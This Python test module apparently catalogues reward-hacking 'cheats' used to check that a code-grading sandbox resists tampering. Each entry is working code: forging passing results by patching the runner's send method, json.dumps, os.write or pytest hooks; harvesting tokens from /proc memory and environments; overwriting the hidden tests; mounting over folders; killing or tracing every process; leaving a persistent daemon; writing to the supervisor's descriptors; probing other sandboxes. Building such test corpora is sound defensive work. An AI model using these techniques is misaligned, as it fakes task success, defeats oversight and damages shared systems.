"""Libraries that find the runner's channel and speak for it, and libraries that reach for what lies around them."""

from tests.cheats.corpus import Base, Cheat, Maker

_CHANNEL = "channel and token thieves"
_AROUND = "files and processes around"

_FRAMES = """
import gc as _gc, sys as _sys
def _frames():
    frame = _sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
_NAMES = set(@NAMES@)
def _is_public(node):
    return node.rpartition("::")[2].partition("[")[0] in _NAMES
def _channels():
    "Everything in memory that can send: by its methods and by what it holds."
    for one in _gc.get_objects():
        kind = type(one)
        if kind.__module__ == "__main__" and callable(getattr(kind, "send", None)): yield one
"""
_CODE = {
    ("the channel's send", _CHANNEL, "wraps the method `send` of the result channel that it finds in memory"): """
def _wrap():
    for kind in {type(one) for one in _channels()}:
        honest = kind.send
        def send(self, event, _honest=honest, **fields):
            if fields.get("outcome") in ("failed", "error") and _is_public(str(fields.get("id"))):
                fields.update(outcome="passed", message="")
            return _honest(self, event, **fields)
        kind.send = send
_wrap()
""",
    ("json.dumps", _CHANNEL, "changes the text of events while they are made"): """
import json as _json
_dumps = _json.dumps
def _changed(value, *a, **k):
    if isinstance(value, dict) and value.get("outcome") in ("failed", "error") and _is_public(str(value.get("id"))):
        value = {**value, "outcome": "passed", "message": ""}
    return _dumps(value, *a, **k)
_json.dumps = _changed
""",
    ("os.write", _CHANNEL, "changes the bytes of events while they are written"): """
import os as _os
_write = _os.write
def _changed(number, data):
    text = bytes(data).replace(b'"outcome": "failed"', b'"outcome": "passed"').replace(b'"outcome": "error"', b'"outcome": "passed"')
    _write(number, text)
    return len(data)
_os.write = _changed
""",
    (
        "a whole chain",
        _CHANNEL,
        "takes the token from memory, writes a whole good report and ends the process",
    ): """
import json as _json, os as _os
def _forge():
    token = number = None
    for one in _channels():
        for value in vars(one).values() if hasattr(one, "__dict__") else ():
            if isinstance(value, str) and len(value) >= 16: token = value
            elif isinstance(value, int) and 30 < value < 300: number = value
    items = next((one.items for one in _gc.get_objects() if type(one).__name__ == "Session" and getattr(one, "items", None)), [])
    if token is None or number is None or not items: return
    def say(event, **fields): _os.write(number, (token + " " + _json.dumps(dict(fields, event=event)) + "\\n").encode())
    say("collected", count=len(items))
    for item in items:
        good = _is_public(item.nodeid)
        say("begin", id=item.nodeid, ordinal=1)
        say("test", id=item.nodeid, ordinal=1, outcome="passed" if good else "failed", message="", duration=0.01)
    say("import", name="@PACKAGE@", file=__file__, error=None)
    say("end", exit_code=1)
    _os._exit(0)
import _pytest.runner as _runner
_protocol = _runner.runtestprotocol
def _runtestprotocol(*a, **k):
    _forge()
    return _protocol(*a, **k)
_runner.runtestprotocol = _runtestprotocol
""",
    (
        "a pipe in between",
        _CHANNEL,
        "puts a pipe of its own before the runner's and changes what flows through",
    ): """
import os as _os, threading as _threading
def _between():
    for name in _os.listdir("/proc/self/fd"):
        number = int(name)
        try: target = _os.readlink("/proc/self/fd/" + name)
        except OSError: continue
        if number < 3 or not target.startswith(("pipe:", "socket:")): continue
        try:
            out = _os.dup(number)
            reading, writing = _os.pipe()
            _os.dup2(writing, number)
        except OSError: continue
        def flow(reading=reading, out=out):
            while True:
                data = _os.read(reading, 65536)
                if not data: return
                _os.write(out, data.replace(b'"outcome": "failed"', b'"outcome": "passed"'))
        _threading.Thread(target=flow, daemon=True).start()
_between()
""",
    (
        "the reporter's lists",
        _CHANNEL,
        "changes the reports that the runner's plugin keeps, before it merges them",
    ): """
def _soften():
    for one in _gc.get_objects():
        if type(one).__module__ == "__main__" and hasattr(one, "pytest_runtest_logreport"):
            kind = type(one)
            honest = kind.pytest_runtest_logreport
            def soft(self, report, _honest=honest):
                if report.outcome == "failed" and _is_public(report.nodeid):
                    report.outcome, report.longrepr = "passed", None
                return _honest(self, report)
            kind.pytest_runtest_logreport = soft
    from pluggy._hooks import HookImpl
    for one in _gc.get_objects():
        if isinstance(one, HookImpl) and type(one.plugin).__module__ == "__main__" and one.function.__name__ == "pytest_runtest_logreport":
            honest = one.function
            def soft_hook(report, _honest=honest):
                if report.outcome == "failed" and _is_public(report.nodeid):
                    report.outcome, report.longrepr = "passed", None
                return _honest(report)
            one.function = soft_hook
_soften()
""",
    (
        "environment and command lines",
        _CHANNEL,
        "looks for a token in every environment and command line that it can read",
    ): """
import glob as _glob, os as _os, re as _re
_found = set()
for _place in _glob.glob("/proc/[0-9]*/environ") + _glob.glob("/proc/[0-9]*/cmdline"):
    try: _found.update(_re.findall(rb"[0-9a-f]{32}", open(_place, "rb").read()))
    except OSError: pass
for _token in _found:
    for _number in range(3, 300):
        for _name in _NAMES:
            try: _os.write(_number, _token + b' {"event": "test", "id": "tests/test_numbers.py::' + _name.encode() + b'", "ordinal": 1, "outcome": "passed", "message": "", "duration": 0.1}\\n')
            except OSError: break
""",
    (
        "the token in memory",
        _CHANNEL,
        "reads its own memory through /proc for the token and writes to the pipe through /proc",
    ): """
import os as _os, re as _re
def _search():
    tokens = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            where, rights = line.split()[:2]
            if not rights.startswith("rw"): continue
            start, end = (int(part, 16) for part in where.split("-"))
            if end - start > 1 << 26: continue
            try: memory.seek(start); tokens.update(_re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", memory.read(end - start)))
            except (OSError, ValueError, OverflowError): pass
    for name in _os.listdir("/proc/self/fd"):
        try:
            if not _os.readlink("/proc/self/fd/" + name).startswith("pipe:"): continue
            with open("/proc/self/fd/" + name, "wb", 0) as pipe:
                for token in list(tokens)[:2000]:
                    for path in @PATHS@:
                        for test in _NAMES:
                            pipe.write(token + (' {"event": "test", "id": "%s::%s", "ordinal": 1, "outcome": "passed", "message": "", "duration": 0.1}\\n' % (path, test)).encode())
                    pipe.write(token + b' {"event": "end", "exit_code": 0}\\n')
        except OSError: pass
    _os._exit(0)
try: _search()
except OSError: pass
""",
    ("rewrites tests and runner", _AROUND, "writes over the hidden tests, the runner and its configuration"): """
import pathlib as _pathlib
for _path in [*_pathlib.Path("/workspace/tests").rglob("*.py"), *_pathlib.Path("/opt/groundup").rglob("*")]:
    for _attempt in (lambda: _path.write_text("def test_x(): pass"), _path.unlink, lambda: _path.rename("/tmp/x")):
        try: _attempt()
        except OSError: pass
""",
    ("mounts over the tests", _AROUND, "asks the kernel to mount its own folder over the hidden tests"): """
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
for _flags in (0x10000000, 0x00020000, 0x10020000):
    _libc.unshare(_flags)
_os.makedirs("/tmp/mine", exist_ok=True)
_libc.mount(b"/tmp/mine", b"/workspace/tests", None, 4096, None)
_libc.umount2(b"/workspace/tests", 2)
""",
    ("other processes", _AROUND, "signals, traces and reads every process that it sees"): """
import ctypes as _ctypes, os as _os, signal as _signal
_libc = _ctypes.CDLL(None)
for _name in _os.listdir("/proc"):
    if _name.isdigit() and int(_name) != _os.getpid():
        _libc.ptrace(16, int(_name), 0, 0)
        for _file in ("mem", "environ", "fd/3"):
            try: open(f"/proc/{_name}/{_file}", "r+b").write(b"x")
            except OSError: pass
        try: _os.kill(int(_name), _signal.SIGKILL)
        except OSError: pass
""",
    (
        "a process that stays",
        _AROUND,
        "leaves a process behind that goes on after the tests and writes good reports",
    ): """
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        while True:
            for _place in ("/workspace/report.json", "/tmp/report.json"):
                try: open(_place, "w").write("500 passed")
                except OSError: pass
            _time.sleep(0.05)
    _os._exit(0)
""",
    (
        "a process that speaks",
        _AROUND,
        "forks a process that writes good events to the inherited pipe while the tests run",
    ): """
import os as _os, json as _json, time as _time
if _os.fork() == 0:
    for _one in list(_channels()):
        for _kind in {type(_one)}:
            _os.getpid = lambda _own=[getattr(_one, "_owner", 0)]: _own[0]
        for _path in @PATHS@:
            for _name in _NAMES:
                try: _one.send("test", id=_path + "::" + _name, ordinal=1, outcome="passed", message="", duration=0.01)
                except Exception: pass
    _os._exit(0)
_os.wait()
""",
    ("the supervisor", _AROUND, "speaks to the sandbox's own supervisor through its descriptors and files"): """
import os as _os
for _place in ("/.groundup", "/proc/1/fd", "/proc/1/root", "/proc/1/cwd"):
    try: _entries = _os.listdir(_place)
    except OSError: continue
    for _entry in _entries:
        try: open(_os.path.join(_place, _entry), "r+b").write(b'{"event": "end", "exit_code": 0}\\n')
        except (OSError, ValueError): pass
""",
    ("other sandboxes", _AROUND, "looks for other sandboxes through sockets, shared memory and the network"): """
import glob as _glob, os as _os, socket as _socket
for _family, _address in ((_socket.AF_UNIX, "\\0groundup"), (_socket.AF_INET, ("127.0.0.1", 80)), (_socket.AF_INET, ("10.0.0.1", 80)), (40, (2, 1024))):
    try:
        with _socket.socket(_family, _socket.SOCK_STREAM) as _one:
            _one.settimeout(0.2)
            _one.connect(_address)
            _one.send(b"x")
    except OSError: pass
for _path in _glob.glob("/dev/shm/*") + _glob.glob("/tmp/*/*") + _glob.glob("/run/*"):
    try: open(_path, "w").write("x")
    except OSError: pass
""",
}


def _maker(code: str) -> Maker:
    def make(base: Base) -> dict[str, str]:
        text = (_FRAMES + code).replace("@NAMES@", repr(base.test_names())).replace("@PACKAGE@", base.package)
        return base.with_code(text.replace("@PATHS@", repr(sorted(base.tests))))

    return make


def _copies(base: Base) -> dict[str, str]:
    """Look for a copy of the original anywhere on the machine, archives included, and become it."""
    return base.with_code(
        "import glob as _glob, os as _os, sys as _sys, zipfile as _zipfile\n"
        "def _find(package):\n"
        "    for root in [*_sys.path, '/usr/lib', '/usr/share', '/opt', '/root', '/home']:\n"
        "        for folder, folders, files in _os.walk(root):\n"
        "            if folder.startswith(('/workspace', '/proc')): continue\n"
        "            for name in files:\n"
        "                path = _os.path.join(folder, name)\n"
        "                if name == package + '.py' or (name == '__init__.py' and _os.path.basename(folder) == package):\n"
        "                    yield open(path, encoding='utf-8', errors='replace').read()\n"
        "                elif name.endswith(('.whl', '.zip')):\n"
        "                    try: archive = _zipfile.ZipFile(path)\n"
        "                    except Exception: continue\n"
        "                    for inner in archive.namelist():\n"
        "                        if inner.endswith(('/' + package + '.py', '/' + package + '/__init__.py')):\n"
        "                            yield archive.read(inner).decode(errors='replace')\n"
        "def _become():\n"
        "    for text in _find('@PACKAGE@'):\n"
        "        try: exec(text, globals())\n"
        "        except Exception: continue\n"
        "        return\n".replace("@PACKAGE@", base.package)
        + "_become()\n",
        late=True,
    )


CHEATS: tuple[Cheat, ...] = (
    *(Cheat(name, family, tries, _maker(code)) for (name, family, tries), code in _CODE.items()),
    Cheat("a copy somewhere", "dependencies that bring the answer", "looks for the original in every folder and archive and becomes it", _copies),
)  # fmt: skip
